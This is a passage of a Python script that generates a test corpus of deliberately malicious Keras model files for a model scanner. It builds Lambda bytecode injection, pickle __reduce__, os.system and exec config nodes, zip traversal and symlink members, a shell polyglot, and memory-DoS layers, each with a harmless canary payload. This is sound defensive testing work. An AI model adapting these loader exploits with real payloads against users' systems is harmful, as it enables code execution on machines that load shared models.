"""Write the attack corpus tests/corpus/attacks/ (run once; output committed).

The corpus extends the base set in tests/fixtures/attacks/ (scripts/make_attack_fixtures.py,
which other tests also read, so it stays where it is): this script adds the advisories that
need a real artifact (.keras zip, legacy .h5, other bytes), the dangerous arguments and
3.15.1-open classes the base set lacks, every lambda evasion of lambda-analysis.md §7 (the
lambdas are the Keras-form cases of tests/fixtures/lambdas/py311.json, made by
scripts/make_lambda_fixtures.py), container tricks, and kerasvet's own variants, each with
its idea in MANIFEST.json.

Every fixture is patched from a model Keras 3 (or, for one, tf.keras 2) wrote. All are
harmless: the worst any payload would do if a broken loader ran it is create a file named
``kerasvet-canary`` (in the current directory, or /tmp for the lambda-corpus cases) or
contact 127.0.0.1 on a closed port.

    KERAS_BACKEND=jax python scripts/make_corpus_attacks.py
"""

from __future__ import annotations

import base64
import copy
import io
import json
import marshal
import os
import pickle
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "jax")
sys.path.insert(0, str(Path(__file__).resolve().parent))

import h5py
import keras
import make_attack_fixtures as base_set
import numpy as np
from make_attack_fixtures import (
    function_node,
    keras3_lambda_layer,
    patch,
    replace_layer,
)

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "corpus" / "attacks"
LAMBDAS = ROOT / "tests" / "fixtures" / "lambdas" / "py311.json"
KERAS2_LAMBDA_H5 = ROOT / "tests" / "fixtures" / "keras2" / "lambda_double.h5"
CANARY = "kerasvet-canary"
"""Relative: created in the probe's working directory (a fresh temp dir) if anything ran."""
TMP_CANARY = "/tmp/kerasvet-canary"
"""The fixed canary of the lambda corpus and of the base set."""
L1 = "/config/layers/1"
L2 = "/config/layers/2"


def canary_lambda_code() -> str:
    """Bytecode of a lambda that would create ./kerasvet-canary if anything ever ran it."""
    fn = eval(f"lambda x: __import__('pathlib').Path({CANARY!r}).touch() or x")
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def saved(model: keras.Model, suffix: str) -> bytes:
    """The bytes of ``model.save(<tmp>.suffix)``, as Keras writes them."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"m{suffix}"
        model.save(path)
        return path.read_bytes()


def base_keras_model() -> keras.Model:
    """The same three-layer functional model as the base set's, with its weights."""
    keras.utils.set_random_seed(0)
    inputs = keras.Input((4,), name="input_layer")
    hidden = keras.layers.Dense(3, activation="relu", name="dense")(inputs)
    outputs = keras.layers.Dense(2, name="dense_1")(hidden)
    return keras.Model(inputs, outputs, name="base")


def lambda_keras_model() -> keras.Model:
    inputs = keras.Input((4,), name="input_layer")
    hidden = keras.layers.Dense(3, name="dense")(inputs)
    outputs = keras.layers.Lambda(lambda x: x * 2, name="lambda")(hidden)
    return keras.Model(inputs, outputs, name="with_lambda")


def zip_members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def rezip(members: list[tuple[str | zipfile.ZipInfo, bytes]],
          compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def with_member(data: bytes, name: str, edit: Callable[[bytes], bytes]) -> bytes:
    """The zip ``data`` with member ``name`` replaced by ``edit(old bytes)``."""
    return rezip([(info.filename, edit(body) if info.filename == name else body)
                  for info, body in zip_members(data)])


def edit_h5(data: bytes, edit: Callable[[h5py.File], None]) -> bytes:
    """HDF5 bytes after ``edit`` ran on the file opened read-write (on disk, then read back)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "w.h5"
        path.write_bytes(data)
        with h5py.File(path, "r+") as file:
            edit(file)
        return path.read_bytes()


def first_dataset(file: h5py.File) -> str:
    names: list[str] = []
    file.visititems(lambda name, obj: names.append(name)
                    if isinstance(obj, h5py.Dataset) and not names else None)
    return names[0]


def replace_dataset(file: h5py.File, name: str, **create: object) -> None:
    del file[name]
    file.create_dataset(name, **create)


class Corpus:
    """Collects fixtures (bytes + manifest entry) before anything is written."""

    def __init__(self) -> None:
        self.entries: list[tuple[dict[str, object], bytes]] = []

    def add(self, ident: str, kind: str, reference: str, mechanism: str,
            expect: list[tuple[str, str | None]], data: bytes | dict, *, category: str,
            idea: str | None = None, canary: str = CANARY) -> None:
        suffix = {"config": ".json", "keras": ".keras", "h5": ".h5", "bytes": ".bin"}[kind]
        if isinstance(data, dict):
            data = (json.dumps(data, indent=1) + "\n").encode("utf-8")
        entry: dict[str, object] = {
            "id": ident, "file": ident + suffix, "kind": kind, "category": category,
            "reference": reference, "mechanism": mechanism,
            "expect": sorted([list(e) for e in set(expect)], key=lambda e: (e[0], e[1] or "")),
            "canary": canary}
        if idea is not None:
            entry["idea"] = idea
        self.entries.append((entry, data))


# --- §8 advisories that need a real artifact ---------------------------------------------------


def advisories(corpus: Corpus, base: dict, model: keras.Model) -> None:
    keras_bytes = saved(model, ".keras")
    h5_bytes = saved(model, ".h5")

    lambda_h5 = saved(lambda_keras_model(), ".h5")

    def canary_in_h5_lambda(file: h5py.File) -> None:
        config = json.loads(file.attrs["model_config"])
        function = config["config"]["layers"][2]["config"]["function"]
        function["config"]["code"] = canary_lambda_code()
        file.attrs["model_config"] = json.dumps(config)

    corpus.add("cve-2025-9905-h5-lambda", "h5", "CVE-2025-9905 (GHSA-36rr-ww3j-vrjv)",
               "a legacy .h5 written by Keras 3 whose model_config Lambda carries bytecode; "
               "the .h5 path ignored safe_mode before 3.11.3",
               [("KV505", f"{L2}/config/function")],
               edit_h5(lambda_h5, canary_in_h5_lambda), category="advisory")

    def canary_in_keras2_lambda(file: h5py.File) -> None:
        config = json.loads(file.attrs["model_config"])
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Lambda":
                layer["config"]["function"][0] = canary_lambda_code()
        file.attrs["model_config"] = json.dumps(config)

    corpus.add("cve-2024-3660-keras2-h5-lambda", "h5", "CVE-2024-3660",
               "a tf.keras 2 .h5 (tests/fixtures/keras2/lambda_double.h5) whose list-form "
               "Lambda bytecode is replaced; HDF5 loads were never protected by safe_mode",
               [("KV505", "/config/layers/1/config/function"),
                ("KV502", "/config/layers/1/config/module")],
               edit_h5(KERAS2_LAMBDA_H5.read_bytes(), canary_in_keras2_lambda),
               category="advisory")

    def shape_bomb(weights: bytes) -> bytes:
        def edit(file: h5py.File) -> None:
            name = first_dataset(file)
            replace_dataset(file, name, shape=(1 << 20, 1 << 14), dtype="float32",
                            chunks=(1, 1 << 14))
        return edit_h5(weights, edit)

    corpus.add("cve-2026-0897-weights-shape-bomb", "keras", "CVE-2026-0897 (GHSA-xfhx-r7ww-5995)",
               "model.weights.h5 dataset declaring 64 GiB with no storage allocated",
               [("KV115", None)], with_member(keras_bytes, "model.weights.h5", shape_bomb),
               category="advisory")

    def external_storage(weights: bytes) -> bytes:
        def edit(file: h5py.File) -> None:
            name = first_dataset(file)
            shape = file[name].shape
            replace_dataset(file, name, shape=shape, dtype="float32",
                            external=[(f"{CANARY}-external.bin", 0, 4 * int(np.prod(shape)))])
        return edit_h5(weights, edit)

    corpus.add("cve-2026-1669-external-storage", "keras", "CVE-2026-1669 (GHSA-3m4q-jmj6-r34q)",
               "a weights dataset whose bytes live in an external host file",
               [("KV113", None)], with_member(keras_bytes, "model.weights.h5", external_storage),
               category="advisory")

    def external_link(weights: bytes) -> bytes:
        def edit(file: h5py.File) -> None:
            name = first_dataset(file)
            del file[name]
            file[name] = h5py.ExternalLink(f"{CANARY}-linked.h5", "/secret")
        return edit_h5(weights, edit)

    corpus.add("cve-2026-1669-external-link", "keras", "CVE-2026-1669 (GHSA-3m4q-jmj6-r34q)",
               "a weights dataset replaced by an HDF5 ExternalLink into another file",
               [("KV111", None)], with_member(keras_bytes, "model.weights.h5", external_link),
               category="advisory")

    def virtual(weights: bytes) -> bytes:
        def edit(file: h5py.File) -> None:
            name = first_dataset(file)
            shape = file[name].shape
            layout = h5py.VirtualLayout(shape=shape, dtype="float32")
            layout[...] = h5py.VirtualSource(f"{CANARY}-source.h5", "data", shape=shape)
            del file[name]
            file.create_virtual_dataset(name, layout, fillvalue=0)
        return edit_h5(weights, edit)

    corpus.add("cve-2026-1669-virtual-dataset", "keras", "CVE-2026-1669 (GHSA-3m4q-jmj6-r34q)",
               "a weights dataset replaced by a virtual dataset mapping another file",
               [("KV114", None)], with_member(keras_bytes, "model.weights.h5", virtual),
               category="advisory")

    def legacy_external_link(file: h5py.File) -> None:
        name = first_dataset(file)
        del file[name]
        file[name] = h5py.ExternalLink(f"{CANARY}-linked.h5", "/secret")

    corpus.add("cve-2026-1669-legacy-h5-external-link", "h5",
               "CVE-2026-1669 (GHSA-3m4q-jmj6-r34q)",
               "a legacy .h5 model whose weights hold an ExternalLink (read by path, so the "
               "link is followed)",
               [("KV111", None)], edit_h5(h5_bytes, legacy_external_link), category="advisory")

    padded = json.dumps(base).encode() + b" " * (4 * 1024 * 1024)
    bomb = rezip([(info.filename, padded if info.filename == "config.json" else body)
                  for info, body in zip_members(keras_bytes)], zipfile.ZIP_DEFLATED)
    corpus.add("zip-bomb-config", "keras", "keras-team/keras #23010 (zip bomb hardening)",
               "config.json deflated from 4 MiB of padding: a ratio far above the cap",
               [("KV103", None)], bomb, category="advisory")

    class Saveable:
        """Stands in for a pickled KerasSaveable: its __reduce__ would touch the canary."""

        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (Path.touch, (CANARY,))  # never unpickled: the audit refuses the format

    corpus.add("keras-saveable-pickle", "bytes", "KERAS-MFV-006 (KerasSaveable __reduce__)",
               "a pickle instead of a model: unpickling a Keras object loads with "
               "safe_mode=False",
               [("KV100", None)], pickle.dumps(Saveable()), category="advisory")

    corpus.add("cve-2025-12058-integer-lookup-path", "config", "CVE-2025-12058",
               "IntegerLookup whose vocabulary is a host file path",
               [("KV403", f"{L1}/config/vocabulary")],
               replace_layer(base, 1, {"module": "keras.layers", "class_name": "IntegerLookup",
                                       "registered_name": None,
                                       "config": {"name": "dense",
                                                  "vocabulary": f"{CANARY}/vocab.txt"}}),
               category="advisory")
    corpus.add("cve-2025-12058-idf-weights-path", "config", "CVE-2025-12058",
               "TextVectorization whose idf_weights is a host file path",
               [("KV403", f"{L1}/config/idf_weights")],
               replace_layer(base, 1, {"module": "keras.layers", "class_name": "TextVectorization",
                                       "registered_name": None,
                                       "config": {"name": "dense", "vocabulary": ["a", "b"],
                                                  "output_mode": "tf_idf",
                                                  "idf_weights": f"{CANARY}/idf.txt"}}),
               category="advisory")


# --- §6 dangerous arguments --------------------------------------------------------------------


def dangerous_arguments(corpus: Corpus, base: dict) -> None:
    canary_lambda = {"class_name": "__lambda__",
                     "config": {"code": canary_lambda_code(), "defaults": None, "closure": None}}
    allowed_function = base_set.lambda_model()["config"]["layers"][2]["config"]["function"]
    harmless = copy.deepcopy(allowed_function)
    harmless["config"]["code"] = base64.b64encode(
        marshal.dumps((lambda x: x * 2).__code__)).decode("ascii")
    corpus.add("lambda-output-shape-bytecode", "config", "keras-serialization.md §6",
               "a Lambda with a harmless function but bytecode in output_shape (run by "
               "compute_output_shape)",
               [("KV505", f"{L2}/config/output_shape")],
               replace_layer(base, 2, keras3_lambda_layer(harmless, output_shape=canary_lambda)),
               category="dangerous-argument")
    corpus.add("lambda-arguments-function-node", "config", "keras-serialization.md §6",
               "Lambda.arguments is deserialized too: a get_file function node passed as an "
               "argument",
               [("KV303", f"{L2}/config/arguments/fetch")],
               replace_layer(base, 2, keras3_lambda_layer(
                   harmless, arguments={"fetch": function_node("keras.utils", "get_file")})),
               category="dangerous-argument")
    corpus.add("keras2-mask-lambda", "config", "keras-serialization.md §6 (tf.keras Lambda mask)",
               "a tf.keras Lambda whose mask is list-form bytecode (mask_type lambda)",
               [("KV505", f"{L2}/config/mask"), ("KV502", f"{L2}/config/mask_module")],
               replace_layer(base, 2, {"class_name": "Lambda", "config": {
                   "name": "dense_1", "trainable": True, "dtype": "float32",
                   "function": [harmless["config"]["code"], None, None],
                   "function_type": "lambda", "output_shape": None,
                   "output_shape_type": "raw", "mask": [canary_lambda_code(), None, None],
                   "mask_type": "lambda", "mask_module": "os", "arguments": {}}}),
               category="dangerous-argument")
    corpus.add("flax-layer-module", "config", "keras-serialization.md §6",
               "FlaxLayer whose module/method are deserialized callables",
               [("KV302", L2), ("KV303", f"{L2}/config/method")],
               replace_layer(base, 2, {"module": "keras.layers", "class_name": "FlaxLayer",
                                       "registered_name": None,
                                       "config": {"name": "dense_1",
                                                  "module": {"module": "keras.layers",
                                                             "class_name": "Dense",
                                                             "registered_name": None,
                                                             "config": {"units": 1}},
                                                  "method": function_node("keras.utils",
                                                                          "get_file")}}),
               category="dangerous-argument")
    extra = copy.deepcopy(base)
    extra["config"]["steps_per_execution"] = function_node("keras.utils", "get_file")
    corpus.add("functional-extra-kwarg", "config", "keras-serialization.md §6 (Functional)",
               "an extra key in a Functional config is passed to Model.__init__: a function "
               "node hidden there",
               [("KV303", "/config/steps_per_execution")], extra,
               category="dangerous-argument")
    conv = {"module": "keras.layers", "class_name": "Conv1D", "registered_name": None,
            "config": {"name": "dense_1", "filters": 1 << 40, "kernel_size": [1]}}
    corpus.add("size-conv-filters", "config", "keras-serialization.md §6 (memory DoS)",
               "a Conv1D with 2**40 filters",
               [("KV405", ""), ("KV406", f"{L2}/config/filters")], replace_layer(base, 2, conv),
               category="open-3.15.1")
    kernel = copy.deepcopy(conv)
    kernel["config"].update(filters=2, kernel_size=[1 << 40])
    corpus.add("size-conv-kernel-size", "config", "keras-serialization.md §6 (memory DoS)",
               "a Conv1D whose kernel_size is 2**40",
               [("KV405", ""), ("KV406", f"{L2}/config/kernel_size/0")],
               replace_layer(base, 2, kernel),
               category="open-3.15.1")
    corpus.add("size-embedding-input-dim", "config", "keras-serialization.md §6 (memory DoS)",
               "an Embedding with a 10**11-row table",
               [("KV405", ""), ("KV406", f"{L1}/config/input_dim")],
               replace_layer(base, 1, {"module": "keras.layers", "class_name": "Embedding",
                                       "registered_name": None,
                                       "config": {"name": "dense", "input_dim": 10**11,
                                                  "output_dim": 8}}),
               category="open-3.15.1")
    corpus.add("size-attention-heads", "config", "keras-serialization.md §6 (memory DoS)",
               "MultiHeadAttention with 2**31 heads and a 2**31 key_dim",
               [("KV405", ""), ("KV406", f"{L2}/config/num_heads"),
                ("KV406", f"{L2}/config/key_dim")],
               replace_layer(base, 2, {"module": "keras.layers",
                                       "class_name": "MultiHeadAttention",
                                       "registered_name": None,
                                       "config": {"name": "dense_1", "num_heads": 1 << 31,
                                                  "key_dim": 1 << 31}}),
               category="open-3.15.1")
    corpus.add("size-batch-shape", "config", "keras-serialization.md §6 (memory DoS)",
               "the InputLayer's batch_shape declares 2**40 features",
               [("KV406", "/config/layers/0/config/batch_shape/1")],
               patch(base, "/config/layers/0/config/batch_shape", [None, 1 << 40]),
               category="open-3.15.1")
    corpus.add("size-build-config-shape", "config", "keras-serialization.md §6 (memory DoS)",
               "a Dense layer's build_config input_shape of 2**40, built before any call",
               [("KV405", ""), ("KV406", f"{L1}/build_config/input_shape/1")],
               patch(base, f"{L1}/build_config", {"input_shape": [None, 1 << 40]}),
               category="open-3.15.1")


# --- lambda-analysis.md §7: every evasion, in a Keras 3 Lambda layer ---------------------------

LAMBDA_EVASIONS = {
    # case id in py311.json: (evasion row of lambda-analysis.md §7, expected rules)
    "dunder_import": ("__import__ / builtins", ["KV505"]),
    "import_or": ("__import__ / builtins (canary command)", ["KV505"]),
    "subclasses": ("dunder traversal", ["KV505"]),
    "dunder_class": ("dunder attribute", ["KV505"]),
    "eval_call": ("eval", ["KV505", "KV508"]),
    "exec_tuple": ("exec (canary write)", ["KV505", "KV508"]),
    "compile_call": ("compile", ["KV505"]),
    "globals_os": ("globals", ["KV505"]),
    "vars_call": ("vars", ["KV505"]),
    "getattr_class": ("getattr", ["KV505"]),
    "getattr_folded": ("getattr of a folded constant", ["KV505"]),
    "getattr_join": ("computed names from defaults", ["KV505"]),
    "format_attr": ("format-string attribute access", ["KV505"]),
    "fstring": ("f-strings", ["KV504"]),
    "fstring_class": ("f-string with a dunder", ["KV504"]),
    "attrgetter": ("operator.attrgetter", ["KV505"]),
    "walrus": ("walrus", ["KV504"]),
    "walrus_class": ("walrus with a dunder", ["KV504"]),
    "nested_lambda": ("nested lambdas", ["KV504"]),
    "genexp_next": ("generators", ["KV504"]),
    "yield_expr": ("yield", ["KV504"]),
    "os_system": ("Keras 3 shared-globals abuse (os)", ["KV505", "KV508"]),
    "marshal_loads": ("Keras 3 shared-globals abuse (marshal)", ["KV505", "KV508"]),
    "reexport_system": ("re-export paths", ["KV505"]),
    "np_load": ("dangerous function in an allowed module (np.load)", ["KV505", "KV508"]),
    "unsafe_deserialization": ("dangerous function in an allowed module (keras.config)",
                               ["KV505"]),
    "tf_py_function": ("dangerous function in an allowed module (tf.py_function)", ["KV505"]),
    "tensor_numpy": ("tensor methods", ["KV505"]),
    "shape_class": ("tensor attribute dunder", ["KV505"]),
    "star_call": ("*args", ["KV504"]),
    "kwargs_call": ("**kwargs", ["KV504"]),
    "closure_missing": ("closure of the wrong length", ["KV506"]),
    "defaults_too_many": ("defaults carrying values", ["KV506"]),
    "varname_injection": ("name injection into rebuilt source", ["KV504"]),
    "extended_arg": ("EXTENDED_ARG tricks", ["KV504"]),
    "const_dos": ("constant DoS", ["KV506"]),
    "pow_dos": ("constant DoS (power)", ["KV506"]),
}
"""Cases the base set already carries (hidden_cache_import, oob_const, listcomp,
closure_extra_value) are not repeated."""


def lambda_evasions(corpus: Corpus, base: dict) -> None:
    cases = {case["id"]: case for case in json.loads(LAMBDAS.read_text())["cases"]}
    for case_id, (row, rules) in LAMBDA_EVASIONS.items():
        case = cases[case_id]
        corpus.add(f"lambda-{case_id.replace('_', '-')}", "config",
                   f"lambda-analysis.md §7 ({row})",
                   f"a Keras 3 Lambda layer whose bytecode is `{case['source']}` (CPython 3.11)",
                   [(rule, f"{L2}/config/function") for rule in rules],
                   replace_layer(base, 2, keras3_lambda_layer(
                       {"class_name": "__lambda__", "config": case["keras"]})),
                   category="lambda-evasion", canary=TMP_CANARY)
    module_field = cases["module_field_system"]["keras"]
    corpus.add("lambda-keras2-module-field", "config", "lambda-analysis.md §7 (Keras 2 module)",
               "a tf.keras list-form lambda `lambda x: system('true')` with module os, so the "
               "bare name would resolve in os' globals",
               [("KV505", f"{L2}/config/function"), ("KV502", f"{L2}/config/module")],
               replace_layer(base, 2, {"class_name": "Lambda", "config": {
                   "name": "dense_1", "function": [module_field["code"], None, None],
                   "function_type": "lambda", "module": "os", "output_shape": None,
                   "output_shape_type": "raw", "arguments": {}}}),
               category="lambda-evasion", canary=TMP_CANARY)


# --- the classes keras-serialization.md §3 lists as still open in Keras 3.15.1 -----------------


def open_classes(corpus: Corpus, base: dict) -> None:
    for module, name, what in (
        ("keras.config", "set_epsilon", "changes the fuzz factor of every later model"),
        ("keras.config", "set_image_data_format", "flips channels_last for the process"),
        ("keras.config", "set_dtype_policy", "switches every later layer to another dtype"),
        ("keras.config", "set_backend", "reloads Keras on another backend"),
        ("keras.config", "disable_traceback_filtering", "changes error reporting globally"),
        ("keras.utils", "clear_session", "resets Keras' global state and name counters"),
        ("keras.datasets.imdb", "get_word_index", "downloads into ~/.keras/datasets at load"),
        ("keras.datasets.cifar10", "load_data", "downloads 170 MB into ~/.keras/datasets"),
        ("keras.utils", "plot_model", "writes to_file wherever the config says"),
        ("keras.legacy.saving", "deserialize_keras_object",
         "a second, legacy deserializer entry point"),
        ("keras.saving", "get_custom_objects", "exposes the process-wide registry dict"),
    ):
        ident = f"open-{module.split('.')[-1]}-{name.replace('_', '-')}"
        corpus.add(ident, "config", "keras-serialization.md §3 (open in 3.15.1)",
                   f"a Lambda whose function is {module}.{name}: {what}",
                   [("KV303", f"{L2}/config/function")],
                   replace_layer(base, 2, keras3_lambda_layer(function_node(module, name))),
                   category="open-3.15.1")
    corpus.add("open-ops-cond-callable", "config", "keras-serialization.md §3 (higher-order ops)",
               "keras.ops.cond as the Lambda function, its branches function nodes of "
               "keras.utils.get_file in arguments",
               [("KV303", f"{L2}/config/function"),
                ("KV303", f"{L2}/config/arguments/true_fn")],
               replace_layer(base, 2, keras3_lambda_layer(
                   function_node("keras.ops", "cond"),
                   arguments={"true_fn": function_node("keras.utils", "get_file")})),
               category="open-3.15.1")
    for module, class_name, rule, what in (
        ("keras.src.backend.torch.layer", "TorchLayer", "KV300",
         "importing the torch backend module would import torch"),
        ("keras.src.legacy.saving.legacy_h5_format", "H5Loader", "KV302",
         "a keras.src module imported only for its side effects (denied: legacy loader)"),
        ("keras_hub.src.models.backbone", "Backbone", "KV300",
         "a keras_hub module Keras would import_module() (first component allowed)"),
    ):
        corpus.add(f"open-submodule-{module.split('.')[0]}-{class_name.lower()}", "config",
                   "keras-serialization.md §3 (keras.src submodule import side effects)",
                   f"a class node naming {module}.{class_name}: {what}",
                   [(rule, L2)],
                   replace_layer(base, 2, {"module": module, "class_name": class_name,
                                           "registered_name": None,
                                           "config": {"name": "dense_1"}}),
                   category="open-3.15.1")


# --- container tricks (§7.7) ------------------------------------------------------------------


def os_system_config(base: dict) -> bytes:
    """The base config with its last layer naming os.system (the CVE-2025-1550 shape)."""
    return json.dumps(replace_layer(base, 2, {"module": "os", "class_name": "system",
                                              "registered_name": None,
                                              "config": {"command": "true"}})).encode()


def containers(corpus: Corpus, base: dict, model: keras.Model) -> None:
    keras_bytes = saved(model, ".keras")
    members = [(info.filename, body) for info, body in zip_members(keras_bytes)]
    evil = os_system_config(base)
    corpus.add("zip-traversal-member", "keras", "keras-serialization.md §7.7",
               "a member named ../kerasvet-canary that an extracting reader would write "
               "outside its directory",
               [("KV104", None), ("KV107", None)], rezip([*members, ("../" + CANARY, b"x")]),
               category="container")
    symlink = zipfile.ZipInfo("assets/link")
    symlink.external_attr = (0o120777 << 16)
    symlink.create_system = 3
    corpus.add("zip-symlink-member", "keras", "keras-serialization.md §7.7",
               "a symlink member pointing at /etc, followed by an extract-to-disk reader",
               [("KV105", None)], rezip([*members, (symlink, b"/etc")]), category="container")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in members:
            archive.writestr(name, body)
        archive.writestr("config.json", evil)  # Python warns: that is the point
    corpus.add("zip-duplicate-config", "keras", "keras-serialization.md §1.2 (last entry wins)",
               "two config.json members: a scanner reading the first sees the benign one, "
               "Keras (getinfo) the second, which names os.system",
               [("KV106", None), ("KV302", L2)], buffer.getvalue(), category="container")
    corpus.add("zip-unexpected-member", "keras", "keras-serialization.md §7.7",
               "a .keras zip carrying an extra executable member Keras never writes",
               [("KV107", None)], rezip([*members, ("run.py", b"open('kerasvet-canary','w')\n")]),
               category="container")
    corpus.add("zip-polyglot-prefix", "keras", "keras-serialization.md §7.7",
               "a shell script prefixed to the zip: the file is both a script and a model",
               [("KV108", None)], b"#!/bin/sh\ntouch kerasvet-canary\nexit 0\n" + keras_bytes,
               category="container")


# --- kerasvet's own variants: no document describes these ----------------------------------


def originals(corpus: Corpus, base: dict, model: keras.Model) -> None:
    def original(ident: str, idea: str, mechanism: str, expect: list[tuple[str, str | None]],
                 data: bytes | dict, kind: str = "config") -> None:
        corpus.add(ident, kind, "kerasvet-original", mechanism, expect, data,
                   category="original", idea=idea)

    compiled = copy.deepcopy(base)
    compiled["compile_config"] = {
        "optimizer": {"module": "keras.optimizers", "class_name": "Adam", "registered_name": None,
                      "config": {"name": "adam", "learning_rate": {
                          "module": "keras.optimizers.schedules",
                          "class_name": "ExponentialDecay", "registered_name": None,
                          "config": {"initial_learning_rate": 0.001, "decay_steps": 10,
                                     "decay_rate": function_node("keras.utils", "get_file")}}}},
        "loss": "mse", "metrics": None, "loss_weights": None, "weighted_metrics": None,
        "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}
    original("original-schedule-in-compile-config",
             "compile_config is deserialized after the model is built; a denied function three "
             "levels down (optimizer -> learning-rate schedule -> decay_rate) is still a node",
             "a get_file function node as the decay_rate of an Adam schedule in compile_config",
             [("KV303", "/compile_config/optimizer/config/learning_rate/config/decay_rate")],
             compiled)
    harmless = base_set.lambda_model()["config"]["layers"][2]["config"]["function"]
    harmless["config"]["code"] = base64.b64encode(
        marshal.dumps((lambda x, s=None: x * 2).__code__)).decode("ascii")
    original("original-slice-member",
             "__slice__ parts are deserialized one by one, so a node can sit in start/stop/step",
             "a Lambda argument that is a __slice__ whose start is a get_file function node",
             [("KV303", f"{L2}/config/arguments/s/config/start")],
             replace_layer(base, 2, keras3_lambda_layer(harmless, arguments={"s": {
                 "class_name": "__slice__",
                 "config": {"start": function_node("keras.utils", "get_file"),
                            "stop": 2, "step": None}}})))
    lstm = {"module": "keras.layers", "class_name": "LSTM", "registered_name": None,
            "config": {"name": "forward_lstm", "units": 2}}
    original("original-bidirectional-backward-layer",
             "Bidirectional deserializes backward_layer separately from layer; a scanner "
             "checking only `layer` misses it",
             "a Bidirectional whose backward_layer is a TFSMLayer",
             [("KV302", f"{L2}/config/backward_layer")],
             replace_layer(base, 2, {"module": "keras.layers", "class_name": "Bidirectional",
                                     "registered_name": None, "config": {
                                         "name": "dense_1", "layer": lstm, "backward_layer": {
                                             "module": "keras.layers", "class_name": "TFSMLayer",
                                             "registered_name": None,
                                             "config": {"name": "backward",
                                                        "filepath": f"{CANARY}/sm"}}}}))
    original("original-time-distributed-inner",
             "wrapper layers carry a whole layer config in `layer`; the inner one is built "
             "first",
             "a TimeDistributed wrapping a TorchModuleWrapper (pickle)",
             [("KV302", f"{L2}/config/layer")],
             replace_layer(base, 2, {"module": "keras.layers", "class_name": "TimeDistributed",
                                     "registered_name": None, "config": {
                                         "name": "dense_1", "layer": {
                                             "module": "keras.layers",
                                             "class_name": "TorchModuleWrapper",
                                             "registered_name": None,
                                             "config": {"name": "inner",
                                                        "module": "cGlja2xl"}}}}))
    shared = copy.deepcopy(base)
    first = shared["config"]["layers"][1]["config"]["kernel_initializer"]
    first["shared_object_id"] = 4242
    shared["config"]["layers"][2]["config"]["kernel_initializer"] = {
        "module": "builtins", "class_name": "exec", "registered_name": None,
        "config": {"source": "pass"}, "shared_object_id": 4242}
    original("original-shared-object-second-occurrence",
             "Keras builds a shared object once, from whichever occurrence comes first; a "
             "checker that judges only the first occurrence misses a different second one",
             "two kernel initializers share an id: the first GlorotUniform, the second exec",
             [("KV208", f"{L2}/config/kernel_initializer"),
              ("KV302", f"{L2}/config/kernel_initializer"),
              ("KV407", f"{L2}/config/kernel_initializer")], shared)
    original("original-homoglyph-module",
             "a Cyrillic 'e' (U+0435) in the module makes it look like keras.layers while naming "
             "another (importable, if someone installs it) package",
             "module 'k\u0435ras.layers' (U+0435, CYRILLIC SMALL LETTER IE)",
             [("KV304", L2)], patch(base, f"{L2}/module", "k\u0435ras.layers"))
    original("original-module-trailing-dot",
             "a trailing dot survives naive prefix checks ('keras.layers.' startswith "
             "'keras.') but is not the module a policy allows",
             "module 'keras.layers.'",
             [("KV304", L2)], patch(base, f"{L2}/module", "keras.layers."))
    original("original-module-nul",
             "C-level string handling stops at NUL: 'keras.layers\\0os' reads as keras.layers "
             "to one reader and as something else to another",
             "module 'keras.layers\\u0000os'",
             [("KV304", L2)], patch(base, f"{L2}/module", "keras.layers\u0000os"))
    original("original-module-case",
             "on a case-insensitive file system 'Keras.layers' can import the same files "
             "under another module name",
             "module 'Keras.layers'",
             [("KV300", L2)], patch(base, f"{L2}/module", "Keras.layers"))
    original("original-registered-name-other-builtin",
             "Keras resolves by registered_name first; a Dense node whose registered_name "
             "names another class is judged as one and built as the other",
             "class Dense with registered_name 'TFSMLayer'",
             [("KV302", L2)], patch(base, f"{L2}/registered_name", "TFSMLayer"))
    legacy = replace_layer(base, 2, {"class_name": "deserialize",
                                     "config": {"config": {"class_name": "Dense",
                                                           "config": {"units": 1}}}})
    original("original-legacy-class-collision",
             "a layer without module goes to the legacy deserializer, whose lookup table "
             "(keras.src.layers.__dict__) also holds functions such as deserialize, called "
             "as cls(**config)",
             "a no-module layer whose class_name is 'deserialize'",
             [("KV300", L2)], legacy)
    mixed = replace_layer(base, 2, {"class_name": "Lambda", "config": {
        "name": "dense_1", "function": [canary_lambda_code(), None, None],
        "function_type": "lambda", "output_shape": None, "output_shape_type": "raw",
        "arguments": {}}})
    original("original-mixed-grammar",
             "one Keras 3 functional config mixing grammars: a module-less layer in tf.keras "
             "list form inside a Keras 3 model routes to the legacy path",
             "a Keras 3 functional model whose last layer is a tf.keras list-form lambda",
             [("KV505", f"{L2}/config/function")], mixed)
    inbound = copy.deepcopy(base)
    inbound["config"]["layers"][2]["inbound_nodes"][0]["kwargs"] = {
        "training": function_node("keras.utils", "get_file")}
    original("original-inbound-kwargs-node",
             "inbound_nodes kwargs are deserialized and passed to the layer call, so a node "
             "can hide in the call arguments rather than the layer config",
             "a get_file function node as the `training` call kwarg",
             [("KV303", f"{L2}/inbound_nodes/0/kwargs/training")], inbound)
    dtype = copy.deepcopy(base)
    dtype["config"]["layers"][1]["config"]["dtype"] = {
        "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
        "config": {"name": "policy", "filepath": f"{CANARY}/sm"}}
    original("original-denied-class-as-dtype",
             "a dtype is deserialized like any node; a checker that assumes dtype is a "
             "DTypePolicy skips it",
             "a layer's dtype is a TFSMLayer node",
             [("KV302", f"{L1}/config/dtype")], dtype)
    nested = copy.deepcopy(base)
    inner = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "inner", "trainable": True, "layers": [
